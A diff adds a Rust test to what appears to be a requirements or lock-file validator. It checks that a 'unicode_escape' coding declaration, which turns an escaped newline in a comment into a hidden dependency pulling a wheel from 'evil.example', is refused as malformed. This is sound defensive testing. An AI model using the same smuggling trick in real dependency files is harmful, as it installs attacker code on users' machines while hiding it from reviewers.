@@ -368,6 +368,16 @@ fn credentials_are_found_and_not_shown() {
 }
 
 #[test]
+fn an_encoding_that_moves_lines_is_refused() {
+    let text = format!(
+        "# file encoding; coding: unicode_escape\ngood==1.0 {HASH}\n# \\nevil @ https://evil.example/e-1-py3-none-any.whl#sha256={}\n",
+        "0a".repeat(32)
+    );
+    assert_eq!(codes(&text), ["lock.malformed"]);
+    assert_eq!(codes(&text.replace("unicode_escape", "utf-8")), [""; 0]);
+}
+
+#[test]
 fn includes_stay_inside() {
     let base = format!("-r sub/more.txt\na==1 {HASH}\n");
     let files = |second: &str| {
